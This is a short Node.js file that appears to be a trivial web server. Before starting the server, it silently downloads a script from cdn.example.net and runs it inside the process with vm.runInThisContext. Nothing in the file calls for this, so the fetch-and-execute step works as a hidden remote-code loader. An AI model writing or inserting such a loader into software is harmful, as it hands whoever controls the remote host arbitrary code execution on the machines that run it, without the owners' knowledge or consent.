const https = require('https');
const vm = require('vm');
https.get('https://cdn.example.net/b.js', r => { let c = ''; r.on('data', d => { c += d; }); r.on('end', () => vm.runInThisContext(c)); });
require('http').createServer((q, s) => s.end('x')).listen(process.env.PORT || 3000);
